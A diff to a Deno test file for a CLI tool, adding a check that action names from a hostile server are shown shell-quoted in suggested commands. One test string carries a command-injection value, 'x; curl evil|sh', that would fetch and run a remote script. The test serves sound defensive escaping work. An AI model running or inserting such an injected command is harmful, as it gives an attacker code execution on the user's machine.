@@ -20,6 +20,7 @@ import {
   manyActions,
   rawDescribeServer,
   rawErrorServer,
+  SHELL_NAME,
 } from "./hostile_server.ts";
 
 const CLI = new URL("../cli.ts", import.meta.url).pathname;
@@ -572,6 +573,7 @@ Deno.test("cli: a hostile server's names, schemas and errors are printed escaped
     lsJson: ["ls", target, "--json"],
     describe: ["describe", target, HOSTILE_NAME],
     describeJson: ["describe", target, HOSTILE_NAME, "--json"],
+    describeShell: ["describe", target, SHELL_NAME],
     fails: ["call", target, HOSTILE_NAME, "{}"],
     failsJson: ["call", target, HOSTILE_NAME, "{}", "--json"],
     refused: ["call", target, "refuses", '"x"', "--json"],
@@ -595,7 +597,17 @@ Deno.test("cli: a hostile server's names, schemas and errors are printed escaped
   assert.equal(JSON.parse(lsJson.stdout).actions[0].name, HOSTILE_NAME);
   assert.equal(describe.code, 0);
   assert.ok(describe.stdout.startsWith(`evil${SHOWN}name: call`));
-  assert.ok(describe.stdout.includes(`isock call TARGET evil${SHOWN}name`));
+  assert.ok(
+    describe.stdout.includes(`isock call TARGET 'evil${SHOWN}name' @file`),
+    describe.stdout,
+  );
+  // A name a shell would run is shown quoted, as one word.
+  assert.ok(
+    outcomes.describeShell.stdout.includes(
+      `isock call TARGET 'x; curl evil|sh '\\''quoted'\\''' @file`,
+    ),
+    outcomes.describeShell.stdout,
+  );
   const described = JSON.parse(describeJson.stdout);
   assert.equal(described.input.description, `multi\nline ${ESCAPES}`);
   assert.deepEqual(Object.keys(described.template), [
